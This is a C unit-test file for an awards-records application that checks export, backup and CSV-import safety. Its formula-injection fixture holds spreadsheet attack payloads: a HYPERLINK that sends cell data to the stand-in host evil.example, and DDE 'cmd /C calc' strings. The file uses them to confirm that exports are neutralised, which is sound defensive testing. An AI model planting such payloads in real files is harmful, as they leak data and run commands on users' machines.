/* test-safety-files.c: nothing the program writes or reads can damage or expose the record
 *
 * SPDX-License-Identifier: GPL-3.0-or-later
 */

#include "config.h"

#include <errno.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "awards-output-file.h"
#include "awards-report.h"
#include "awards-store-owners.h"
#include "io-test-util.h"

static char *
database_path (Fixture *fixture)
{
  return g_strdup (awards_store_get_path (fixture->store));
}

static guint
file_mode (const char *path)
{
  GStatBuf info;

  g_assert_cmpint (g_stat (path, &info), ==, 0);
  return info.st_mode & 07777;
}

/* The database still opens, whole, with what it held. */
static void
assert_database_intact (Fixture *fixture,
                        guint    expected)
{
  g_autoptr(GError) error = NULL;
  g_autofree char *path = database_path (fixture);
  g_autoptr(AwardsStore) again = awards_store_open (path, &error);
  g_autoptr(GPtrArray) problems = NULL;

  g_assert_no_error (error);
  g_assert_cmpuint (count_commendations (again), ==, expected);
  problems = awards_store_check (again, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (problems->len, ==, 0);
}

static void
assert_export_refused (Fixture    *fixture,
                       const char *destination,
                       const char *expected_words)
{
  g_autoptr(GError) error = NULL;

  g_assert_false (awards_export_to_path (fixture->store, NULL, AWARDS_EXPORT_FORMAT_CSV,
                                         destination, NULL, NULL, &error));
  g_assert_error (error, AWARDS_OUTPUT_FILE_ERROR, AWARDS_OUTPUT_FILE_ERROR_REFUSED);
  g_assert_nonnull (strstr (error->message, expected_words));
}

static void
test_destination_refuses_database_files (Fixture       *fixture,
                                         gconstpointer  data)
{
  g_autoptr(GError) error = NULL;
  g_autofree char *db = database_path (fixture);
  g_autofree char *wal = g_strconcat (db, "-wal", NULL);
  g_autofree char *journal = g_strconcat (db, "-journal", NULL);
  g_autofree char *link = g_build_filename (fixture->dir, "x.csv", NULL);
  g_autofree char *link_to_journal = g_build_filename (fixture->dir, "y.csv", NULL);
  g_autofree char *spelled = g_build_filename (fixture->dir, ".", "awards.db", NULL);
  g_autofree char *xlsx_link = g_build_filename (fixture->dir, "z.xlsx", NULL);
  GStatBuf info;

  g_assert_true (import_text (fixture, HAI_PHONG_2011, FALSE, NULL, &error));
  g_assert_no_error (error);
  g_assert_true (g_file_test (wal, G_FILE_TEST_EXISTS));
  g_assert_false (g_file_test (journal, G_FILE_TEST_EXISTS));

  assert_export_refused (fixture, db, "open database itself");
  assert_export_refused (fixture, spelled, "open database itself");
  assert_export_refused (fixture, wal, "working file");
  /* Compared by name when the journal does not exist yet. */
  assert_export_refused (fixture, journal, "working file");
  g_assert_cmpint (symlink ("awards.db", link), ==, 0);
  assert_export_refused (fixture, link, "link to the open database");
  g_assert_cmpint (symlink (journal, link_to_journal), ==, 0);
  assert_export_refused (fixture, link_to_journal, "link to the open database");
  assert_export_refused (fixture, fixture->dir, "folder");
  assert_export_refused (fixture, "/dev/null", "device");
  g_assert_cmpint (symlink ("awards.db", xlsx_link), ==, 0);
  g_assert_false (awards_export_to_path (fixture->store, NULL, AWARDS_EXPORT_FORMAT_XLSX,
                                         xlsx_link, NULL, NULL, &error));
  g_assert_error (error, AWARDS_OUTPUT_FILE_ERROR, AWARDS_OUTPUT_FILE_ERROR_REFUSED);
  g_clear_error (&error);

  /* A backup onto the log would have removed it; onto a device, replaced the device. */
  g_assert_false (awards_store_backup (fixture->store, wal, &error));
  g_assert_error (error, AWARDS_OUTPUT_FILE_ERROR, AWARDS_OUTPUT_FILE_ERROR_REFUSED);
  g_clear_error (&error);
  g_assert_true (g_file_test (wal, G_FILE_TEST_EXISTS));
  g_assert_false (awards_store_backup (fixture->store, "/dev/null", &error));
  g_assert_error (error, AWARDS_OUTPUT_FILE_ERROR, AWARDS_OUTPUT_FILE_ERROR_REFUSED);
  g_clear_error (&error);
  g_assert_cmpint (g_stat ("/dev/null", &info), ==, 0);
  g_assert_true (S_ISCHR (info.st_mode));

  /* Reports, in every format. */
  {
    AwardsReportRequest request;
    g_autoptr(AwardsReport) report = NULL;

    awards_report_request_init (&request, AWARDS_REPORT_KIND_SUMMARY);
    report = awards_report_build (fixture->store, &request, &error);
    g_assert_no_error (error);
    g_assert_false (awards_report_write_file (report, AWARDS_REPORT_FORMAT_PDF, db, &error));
    g_assert_error (error, AWARDS_OUTPUT_FILE_ERROR, AWARDS_OUTPUT_FILE_ERROR_REFUSED);
    g_clear_error (&error);
    g_assert_false (awards_report_write_file (report, AWARDS_REPORT_FORMAT_CSV, link, &error));
    g_assert_error (error, AWARDS_OUTPUT_FILE_ERROR, AWARDS_OUTPUT_FILE_ERROR_REFUSED);
    g_clear_error (&error);
  }

  g_assert_cmpuint (g_file_test (link, G_FILE_TEST_IS_SYMLINK), ==, TRUE);
  assert_database_intact (fixture, 27);
}

static void
test_destination_replaces_whole (Fixture       *fixture,
                                 gconstpointer  data)
{
  g_autoptr(GError) error = NULL;
  g_autofree char *target = g_build_filename (fixture->dir, "target.csv", NULL);
  g_autofree char *link = g_build_filename (fixture->dir, "link.csv", NULL);
  g_autofree char *contents = NULL;
  g_autoptr(AwardsOutputFile) file = NULL;

  g_assert_true (g_file_set_contents (target, "old", -1, NULL));
  g_assert_cmpint (symlink ("target.csv", link), ==, 0);

  /* Until the commit, the destination is what it was: nothing is truncated. */
  file = awards_output_file_new (link, &error);
  g_assert_no_error (error);
  g_assert_true (g_output_stream_write_all (awards_output_file_get_stream (file), "new", 3,
                                            NULL, NULL, &error));
  g_assert_true (g_file_get_contents (target, &contents, NULL, NULL));
  g_assert_cmpstr (contents, ==, "old");
  g_clear_pointer (&contents, g_free);
  g_assert_true (awards_output_file_commit (file, &error));
  g_assert_no_error (error);

  /* The link stays a link, and its target has the new content. */
  g_assert_true (g_file_test (link, G_FILE_TEST_IS_SYMLINK));
  g_assert_true (g_file_get_contents (target, &contents, NULL, NULL));
  g_assert_cmpstr (contents, ==, "new");
  g_clear_pointer (&contents, g_free);

  /* Freed without a commit: the old content stays, and no temporary file is left. */
  g_clear_pointer (&file, awards_output_file_free);
  file = awards_output_file_new (target, &error);
  g_assert_true (g_output_stream_write_all (awards_output_file_get_stream (file), "half", 4,
                                            NULL, NULL, &error));
  g_clear_pointer (&file, awards_output_file_free);
  g_assert_true (g_file_get_contents (target, &contents, NULL, NULL));
  g_assert_cmpstr (contents, ==, "new");
  {
    g_autoptr(GDir) dir = g_dir_open (fixture->dir, 0, NULL);
    const char *name;

    while ((name = g_dir_read_name (dir)) != NULL)
      g_assert_false (g_str_has_prefix (name, ".target.csv."));
  }
}

static void
test_files_are_private (Fixture       *fixture,
                        gconstpointer  data)
{
  g_autoptr(GError) error = NULL;
  g_autofree char *export = g_build_filename (fixture->dir, "export.csv", NULL);
  g_autofree char *shared = g_build_filename (fixture->dir, "shared.csv", NULL);
  g_autofree char *backup = g_build_filename (fixture->dir, "backup.db", NULL);
  g_autofree char *xlsx = g_build_filename (fixture->dir, "export.xlsx", NULL);
  g_autofree char *folder = g_build_filename (fixture->dir, "new", "folder", NULL);
  g_autofree char *new_db = g_build_filename (folder, "awards.db", NULL);
  g_autofree char *saved = NULL;
  g_autoptr(AwardsStore) other = NULL;
  mode_t old_umask;

  g_assert_true (import_text (fixture, HAI_PHONG_2011, FALSE, NULL, &error));
  old_umask = umask (0);

  g_assert_true (awards_export_to_path (fixture->store, NULL, AWARDS_EXPORT_FORMAT_CSV, export,
                                        NULL, NULL, &error));
  g_assert_cmphex (file_mode (export), ==, 0600);
  g_assert_true (awards_export_to_path (fixture->store, NULL, AWARDS_EXPORT_FORMAT_XLSX, xlsx,
                                        NULL, NULL, &error));
  g_assert_no_error (error);
  g_assert_cmphex (file_mode (xlsx), ==, 0600);

  /* A file the user shared on purpose keeps its mode when it is replaced. */
  g_assert_true (g_file_set_contents (shared, "old", -1, NULL));
  g_assert_cmpint (g_chmod (shared, 0640), ==, 0);
  g_assert_true (awards_export_to_path (fixture->store, NULL, AWARDS_EXPORT_FORMAT_CSV, shared,
                                        NULL, NULL, &error));
  g_assert_cmphex (file_mode (shared), ==, 0640);

  g_assert_true (awards_store_backup (fixture->store, backup, &error));
  g_assert_no_error (error);
  g_assert_cmphex (file_mode (backup), ==, 0600);
  /* A backup over a private file leaves it private. */
  g_assert_true (awards_store_backup (fixture->store, backup, &error));
  g_assert_cmphex (file_mode (backup), ==, 0600);

  other = awards_store_open (new_db, &error);
  g_assert_no_error (error);
  g_assert_cmphex (file_mode (new_db), ==, 0600);
  g_assert_cmphex (file_mode (folder), ==, 0700);
  g_clear_object (&other);

  /* The copy kept before a restore holds the same personal data. */
  g_assert_true (awards_store_restore (new_db, backup, &saved, &error));
  g_assert_no_error (error);
  g_assert_cmphex (file_mode (saved), ==, 0600);

  umask (old_umask);
}

/* The cells that spreadsheets run, as an OWASP test list has them. */
#define FORMULAS \
  HEADER \
  "1/QĐ-UBND,2011-12-28,UBND thành phố Hải Phòng,Bằng khen,collective," \
    "\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Bấm\"\")\",,,+cmd|' /C calc'!A0,2011\n" \
  "1/QĐ-UBND,2011-12-28,UBND thành phố Hải Phòng,Bằng khen,collective,@SUM(1+1)*cmd|' /C calc'!A0" \
    ",,,-1+1,2011\n" \
  "1/QĐ-UBND,2011-12-28,UBND thành phố Hải Phòng,Bằng khen,collective,'=already quoted" \
    ",,,'plain quote,2011\n"

static char *
export_text (AwardsStore *store)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(GOutputStream) output = g_memory_output_stream_new_resizable ();

  g_assert_true (awards_export_csv_to_stream (store, NULL, output, NULL, NULL, &error));
  g_assert_no_error (error);
  g_output_stream_write_all (output, "", 1, NULL, NULL, NULL);
  g_output_stream_close (output, NULL, NULL);
  return g_memory_output_stream_steal_data (G_MEMORY_OUTPUT_STREAM (output));
}

static void
test_csv_formula_cells (Fixture       *fixture,
                        gconstpointer  data)
{
  g_autoptr(GError) error = NULL;
  g_autofree char *exported = NULL;
  g_autofree char *again = NULL;
  g_autofree char *report_csv = NULL;
  g_auto(GStrv) lines = NULL;
  Fixture other = { 0 };

  g_assert_true (import_text (fixture, FORMULAS, FALSE, NULL, &error));
  g_assert_no_error (error);

  exported = export_text (fixture->store);
  /* No cell of the export begins with what a spreadsheet runs. */
  lines = g_strsplit (exported, "\n", -1);
  for (guint i = 1; lines[i] != NULL && lines[i][0] != '\0'; i++)
    {
      g_auto(GStrv) cells = g_strsplit (lines[i], ",", -1);

      for (guint j = 0; cells[j] != NULL; j++)
        {
          const char *cell = cells[j][0] == '"' ? cells[j] + 1 : cells[j];

          g_assert_false (strchr ("=+-@\t\r", cell[0]) != NULL && cell[0] != '\0');
        }
    }
  g_assert_nonnull (strstr (exported, "\"'=HYPERLINK("));
  g_assert_nonnull (strstr (exported, ",'+cmd|"));
  g_assert_nonnull (strstr (exported, ",'@SUM(1+1)"));
  g_assert_nonnull (strstr (exported, ",'-1+1,"));
  /* A quote a person typed before a formula-like text is read as the guard; any other stays. */
  g_assert_nonnull (strstr (exported, ",'=already quoted,"));
  g_assert_nonnull (strstr (exported, ",'plain quote,"));

  /* The guard is taken off again: export → import → export is the same text. */
  fixture_set_up (&other, NULL);
  g_assert_true (import_text (&other, exported, FALSE, NULL, &error));
  g_assert_no_error (error);
  again = export_text (other.store);
  g_assert_cmpstr (again, ==, exported);
  {
    g_autoptr(AwardsOrganisation) organisation =
      awards_store_find_organisation (other.store, "@SUM(1+1)*cmd|' /C calc'!A0", &error);

    g_assert_no_error (error);
    g_assert_nonnull (organisation);
  }
  {
    g_autoptr(AwardsOrganisation) organisation =
      awards_store_find_organisation (other.store, "=already quoted", &error);

    g_assert_no_error (error);
    g_assert_nonnull (organisation);
  }
  fixture_tear_down (&other, NULL);

  /* The report's CSV too. */
  {
    AwardsReportRequest request;
    g_autoptr(AwardsReport) report = NULL;
    g_autoptr(GOutputStream) output = g_memory_output_stream_new_resizable ();

    awards_report_request_init (&request, AWARDS_REPORT_KIND_ORGANISATION);
    request.organisation = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm\")";
    report = awards_report_build (fixture->store, &request, &error);
    g_assert_no_error (error);
    g_assert_true (awards_report_write (report, AWARDS_REPORT_FORMAT_CSV, output, NULL, &error));
    g_output_stream_write_all (output, "", 1, NULL, NULL, NULL);
    g_output_stream_close (output, NULL, NULL);
    report_csv = g_memory_output_stream_steal_data (G_MEMORY_OUTPUT_STREAM (output));
    g_assert_null (strstr (report_csv, ",=HYPERLINK"));
    g_assert_null (strstr (report_csv, ",\"=HYPERLINK"));
    g_assert_null (strstr (report_csv, "\n=HYPERLINK"));
  }
}

/* The import failed, and its message names the file and line of @expected. */
static void
assert_located_error (GError     **error,
                      const char  *expected)
{
  g_assert_error (*error, AWARDS_IMPORT_ERROR, AWARDS_IMPORT_ERROR_INVALID);
  if (strstr ((*error)->message, expected) == NULL)
    g_error ("“%s” does not say “%s”", (*error)->message, expected);
  g_clear_error (error);
}

static void
test_csv_bounded (Fixture       *fixture,
                  gconstpointer  data)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(AwardsImporter) importer = NULL;
  g_autoptr(GString) text = g_string_new (HEADER);
  g_autoptr(GFile) zero = g_file_new_for_path ("/dev/zero");

  /* A field over 64 KiB, on line 3. */
  g_string_append (text, "1/QĐ-UBND,2011-12-28,UBND thành phố Hải Phòng,Bằng khen,collective,"
                         "HTX A,,,ok,2011\n");
  g_string_append (text, "1/QĐ-UBND,2011-12-28,UBND thành phố Hải Phòng,Bằng khen,collective,"
                         "HTX B,,,");
  for (guint i = 0; i < 70 * 1024; i++)
    g_string_append_c (text, 'x');
  g_string_append (text, ",2011\n");
  g_assert_false (import_text (fixture, text->str, FALSE, &importer, &error));
  assert_located_error (&error, "awards.csv:3: a field is longer than 64 KiB");
  g_clear_object (&importer);

  /* A row over 1 MiB made of fields under the limit, on line 2. */
  g_string_assign (text, HEADER);
  for (guint f = 0; f < 20; f++)
    {
      for (guint i = 0; i < 60 * 1024; i++)
        g_string_append_c (text, 'y');
      g_string_append_c (text, ',');
    }
  g_string_append_c (text, '\n');
  g_assert_false (import_text (fixture, text->str, FALSE, &importer, &error));
  assert_located_error (&error, "awards.csv:2: a row is longer than 1 MiB");
  g_clear_object (&importer);

  /* Line endings of old Macs: the bad date is on line 3. */
  g_assert_false (import_text (fixture,
                               "decision_number,decision_date,authority,award,recipient_type,"
                               "recipient\r1,2011-12-28,UBND A,Bằng khen,collective,HTX A\r"
                               "2,31/02/2011,UBND A,Bằng khen,collective,HTX B\r",
                               FALSE, &importer, &error));
  assert_located_error (&error, "awards.csv:3: invalid date");
  g_clear_object (&importer);

  /* An endless file of NUL bytes is refused at once instead of filling memory. */
  importer = awards_importer_new (fixture->store);
  g_assert_false (awards_importer_import_file (importer, zero, NULL, NULL, &error));
  assert_located_error (&error, "zero:1: the file holds NUL bytes");
  g_assert_cmpuint (count_commendations (fixture->store), ==, 0);
}

int
main (int   argc,
      char *argv[])
{
  g_test_init (&argc, &argv, NULL);

#define ADD(path, func) \
  g_test_add (path, Fixture, NULL, fixture_set_up, func, fixture_tear_down)

  ADD ("/safety/destination/refuses-database-files", test_destination_refuses_database_files);
  ADD ("/safety/destination/replaces-whole", test_destination_replaces_whole);
  ADD ("/safety/files/private", test_files_are_private);
  ADD ("/safety/csv/formula-cells", test_csv_formula_cells);
  ADD ("/safety/csv/bounded", test_csv_bounded);

  return g_test_run ();
}
